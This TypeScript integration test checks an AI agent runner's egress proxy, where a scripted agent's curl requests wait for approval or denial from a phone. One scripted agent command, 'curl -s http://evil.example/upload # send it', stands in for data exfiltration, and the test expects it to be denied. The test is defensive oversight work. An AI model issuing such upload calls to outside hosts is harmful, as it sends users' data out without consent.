// The supervisor's side of egress with the real runner, the real Claude Code (scripted model) and
// real git: a small stand-in of the egress proxy, written here, speaks common/egress/protocol.ts and
// records what it proxied. The agent's curl reaches it with its Session's credential and waits on an
// ask; the runner raises it as a pending egress request naming the running tool call, and the phone's
// decisions become the right answers; a stream that closes withdraws its ask and is opened again; the
// supervisor's git fetch/push and GitHub API go through it as runner.<pod>; connection events land in
// status.egress.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { createServer, request, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { agentPassword, parseUsername, usernameOf } from '../../common/egress/credentials.ts';
import { answersPath, eventsPath, type EgressEvent } from '../../common/egress/protocol.ts';
import { basicAuth, serveGitOverHttp, type GitHttpForge } from '../../local/git-forge.ts';
import { eventually } from '../support/eventually.ts';
import {
  answer,
  createStartedSession,
  makeRemote,
  specFor,
  startRunner,
  useRunnerTestbed,
  waitFor,
} from '../support/runner.ts';

const TOKEN = 'supervisor-egress-password-0123456789';
const FORGE_TOKEN = 'ghs_egressforgetoken000';

interface Proxied {
  user: string;
  method: string;
  target: string;
}

/** The egress proxy as far as the supervisor sees it: plain-HTTP proxying, the events stream, the answers. */
class EgressStandIn {
  url = '';
  readonly proxied: Proxied[] = [];
  readonly answers: Array<{ id: string; grant: string }> = [];
  streamsOpened = 0;
  private readonly streams = new Set<ServerResponse>();
  /** Agent requests waiting on an ask, by ask id. */
  private readonly waiting = new Map<string, { res: ServerResponse; host: string; port: number }>();
  private asks = 0;
  private readonly server = createServer((req, res) => this.handle(req, res));

  private readonly session: string;
  private readonly pod: string;

  constructor(session: string, pod: string) {
    this.session = session;
    this.pod = pod;
    this.server.on('connect', (_req, socket: Socket) => socket.end('HTTP/1.1 403 Forbidden\r\n\r\n'));
  }

  async start(): Promise<void> {
    await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve));
    this.url = `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
  }

  close(): Promise<void> {
    return new Promise((resolve) => {
      this.server.closeAllConnections();
      this.server.close(() => resolve());
    });
  }

  /** Events while no stream is open wait for the next one (the supervisor's first fetch may come before it). */
  private readonly unsent: EgressEvent[] = [];

  send(event: EgressEvent): void {
    if (this.streams.size === 0) return void this.unsent.push(event);
    for (const stream of this.streams) stream.write(`${JSON.stringify(event)}\n`);
  }

  /** Closes every open stream (the proxy drops the asks on them: their waiting connections are refused). */
  dropStreams(): void {
    for (const stream of this.streams) stream.destroy();
    this.streams.clear();
    for (const [id, { res }] of this.waiting) {
      this.waiting.delete(id);
      res.writeHead(403).end('the phone could not be asked');
    }
  }

  private expectedPassword(user: string): string | undefined {
    const caller = parseUsername(user);
    if (caller?.kind === 'supervisor' && caller.pod === this.pod) return TOKEN;
    if (caller?.kind === 'agent' && caller.session === this.session) return agentPassword(TOKEN, this.session);
    return undefined;
  }

  /** The user of a valid Basic credential in `header`, or undefined. */
  private userOf(header: string | undefined): string | undefined {
    const decoded = Buffer.from(/^Basic (\S+)$/.exec(header ?? '')?.[1] ?? '', 'base64').toString();
    const [user = '', password] = [decoded.slice(0, decoded.indexOf(':')), decoded.slice(decoded.indexOf(':') + 1)];
    return password === this.expectedPassword(user) ? user : undefined;
  }

  private handle(req: IncomingMessage, res: ServerResponse): void {
    if (req.url?.startsWith('/')) return this.api(req, res);
    const user = this.userOf(req.headers['proxy-authorization']);
    if (!user) return void res.writeHead(407, { 'proxy-authenticate': 'Basic realm="tether-egress"' }).end();
    this.proxied.push({ user, method: req.method!, target: req.url! });
    const target = new URL(req.url!);
    if (user.startsWith('agent.')) return this.ask(target, res);
    this.forward(req, res, target);
  }

  private forward(req: IncomingMessage, res: ServerResponse, target: URL): void {
    const headers = { ...req.headers };
    delete headers['proxy-authorization'];
    const out = request(target, { method: req.method, headers }, (answer) => {
      res.writeHead(answer.statusCode!, answer.headers);
      answer.pipe(res);
      answer.on('end', () =>
        this.connection({ caller: 'supervisor', host: target.hostname, port: Number(target.port), allowed: true }),
      );
    });
    req.pipe(out);
  }

  private ask(target: URL, res: ServerResponse): void {
    const id = `ask-${++this.asks}`;
    const port = Number(target.port || 80);
    this.waiting.set(id, { res, host: target.hostname, port });
    this.send({ type: 'ask', id, host: target.hostname, port, method: 'GET' });
  }

  private connection(c: {
    caller: 'agent' | 'supervisor';
    host: string;
    port: number;
    allowed: boolean;
    reason?: string;
  }) {
    this.send({ type: 'connection', ...c, bytes: c.allowed ? 100 : 0, at: new Date().toISOString() });
  }

  private api(req: IncomingMessage, res: ServerResponse): void {
    if (this.userOf(req.headers.authorization) !== usernameOf({ kind: 'supervisor', pod: this.pod }))
      return void res.writeHead(401).end();
    if (req.method === 'GET' && req.url === eventsPath(this.session)) {
      this.streamsOpened += 1;
      res.writeHead(200, { 'content-type': 'application/x-ndjson' });
      res.write(`${JSON.stringify({ type: 'ping' })}\n`);
      this.streams.add(res);
      for (const event of this.unsent.splice(0)) this.send(event);
      return;
    }
    if (req.method !== 'POST' || req.url !== answersPath(this.session)) return void res.writeHead(404).end();
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      const { id, grant } = JSON.parse(body) as { id: string; grant: string };
      const open = this.waiting.get(id);
      if (!open) return void res.writeHead(404).end();
      this.answers.push({ id, grant });
      this.waiting.delete(id);
      res.writeHead(204).end();
      const allowed = grant !== 'deny';
      const reason = allowed ? undefined : 'denied from the phone';
      open.res.writeHead(allowed ? 200 : 403).end(allowed ? 'index of foo\n' : reason);
      this.connection({ caller: 'agent', host: open.host, port: open.port, allowed, ...(reason ? { reason } : {}) });
    });
  }
}

async function freePort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  await new Promise((resolve) => server.close(resolve));
  return port;
}

const curl = (url: string, why: string) =>
  `tool: Bash ${JSON.stringify({ command: `curl -s ${url} # ${why}`, description: why })}`;

const bed = useRunnerTestbed('runner-egress');
let forge: GitHttpForge;
let remote: ReturnType<typeof makeRemote>;
beforeAll(async () => {
  remote = makeRemote();
  forge = await serveGitOverHttp(join(remote.root, 'remotes'), FORGE_TOKEN, { record: true });
});
afterAll(async () => forge?.close());

describe('runner egress', { timeout: 240_000 }, () => {
  it('asks become pending egress requests answered to the proxy; the supervisor goes through it', async () => {
    const prompt = [
      'script: fetch the index',
      curl('http://pypi.example/simple/foo/', 'pip install foo'),
      curl('http://evil.example/upload', 'send it'),
      curl('http://slow.example/x', 'slow one'),
      'write: a.txt = a',
      'say: done',
    ].join('\n');
    const name = await createStartedSession(bed.sessions, bed.ns, specFor(prompt, `${forge.origin}/acme/web.git`));
    const pod = `${name}-runner`;
    const proxy = new EgressStandIn(name, pod);
    await proxy.start();
    const modelPort = await freePort();
    // The Pod's egress Secret as the kubelet would mount it.
    const tokenFile = join(mkdtempSync(join(tmpdir(), 'egress-secret-')), 'token');
    writeFileSync(tokenFile, TOKEN, { mode: 0o440 });
    try {
      const runner = startRunner({
        kubeconfig: inject('kubeconfig'),
        namespace: bed.ns,
        name,
        env: bed.env({
          GITHUB_TOKEN: FORGE_TOKEN,
          TETHER_REPO_HOSTS: new URL(forge.origin).host,
          TETHER_POD_NAME: pod,
          TETHER_EGRESS_URL: proxy.url,
          TETHER_EGRESS_TOKEN_FILE: tokenFile,
          TETHER_MODEL_PORT: String(modelPort),
        }),
      });
      const egressAsked = (host: string) =>
        waitFor(
          bed.sessions,
          bed.ns,
          name,
          (s) => s.status?.pending?.host === host && s.status.phase === 'AwaitingApproval',
        );

      await answer(bed.sessions, bed.ns, name, 'tool', { action: 'allow' });
      const first = (await egressAsked('pypi.example')).status!.pending!;
      expect(first).toMatchObject({ kind: 'egress', host: 'pypi.example', port: 80, tool: 'Bash' });
      expect(JSON.parse(first.input!).command).toContain('pip install foo');
      await answer(bed.sessions, bed.ns, name, 'egress', { action: 'allow', scope: 'repository' });
      await eventually(async () => expect(proxy.answers).toEqual([{ id: 'ask-1', grant: 'repository' }]));

      await answer(bed.sessions, bed.ns, name, 'tool', { action: 'allow' });
      await egressAsked('evil.example');
      await answer(bed.sessions, bed.ns, name, 'egress', { action: 'deny' });
      await eventually(async () => expect(proxy.answers.at(-1)).toEqual({ id: 'ask-2', grant: 'deny' }));

      await answer(bed.sessions, bed.ns, name, 'tool', { action: 'allow' });
      await egressAsked('slow.example');
      proxy.dropStreams();
      // Withdrawn: no decision, back to work; the runner opens the stream again.
      const atChanges = await waitFor(bed.sessions, bed.ns, name, (s) => s.status?.pending?.kind === 'changes');
      expect(proxy.answers.map((a) => a.id)).toEqual(['ask-1', 'ask-2']);
      await eventually(async () => expect(proxy.streamsOpened).toBeGreaterThanOrEqual(2));
      const forgeHost = new URL(forge.origin);
      expect(atChanges.status?.egress).toEqual(
        expect.arrayContaining([
          expect.objectContaining({
            caller: 'agent',
            host: 'pypi.example',
            port: 80,
            allowed: 1,
            refused: 0,
            bytes: 100,
          }),
          expect.objectContaining({
            caller: 'agent',
            host: 'evil.example',
            allowed: 0,
            refused: 1,
            reason: 'denied from the phone',
          }),
          expect.objectContaining({ caller: 'supervisor', host: forgeHost.hostname, port: Number(forgeHost.port) }),
        ]),
      );

      await answer(bed.sessions, bed.ns, name, 'changes', { action: 'approve' });
      expect(await runner.exited, runner.output()).toBe(0);
      expect(runner.output()).toContain(`scripted model at http://127.0.0.1:${modelPort}`);
      expect(remote.git('show', `tether/${name}:a.txt`)).toBe('a');
      const supervisor = usernameOf({ kind: 'supervisor', pod });
      const byRunner = proxy.proxied.filter((p) => p.user === supervisor).map((p) => `${p.method} ${p.target}`);
      expect(byRunner).toEqual(
        expect.arrayContaining([
          expect.stringMatching(new RegExp(`^GET ${forge.origin}/acme/web.git/info/refs\\?service=git-upload-pack$`)),
          `POST ${forge.origin}/acme/web.git/git-upload-pack`,
          `POST ${forge.origin}/acme/web.git/git-receive-pack`,
          `POST ${bed.github.url}/repos/acme/web/pulls`,
        ]),
      );
      // Every forge request came through the proxy, with the forge's own token.
      expect(byRunner.filter((p) => p.includes(forge.origin))).toHaveLength(forge.requests.length);
      expect(forge.requests.every((r) => r.authorization === basicAuth(FORGE_TOKEN))).toBe(true);
      const agent = proxy.proxied.filter((p) => p.user !== supervisor);
      expect(agent.map((p) => `${p.user} ${p.target}`)).toEqual([
        `agent.${name} http://pypi.example/simple/foo/`,
        `agent.${name} http://evil.example/upload`,
        `agent.${name} http://slow.example/x`,
      ]);
    } finally {
      await proxy.close();
    }
  });
});
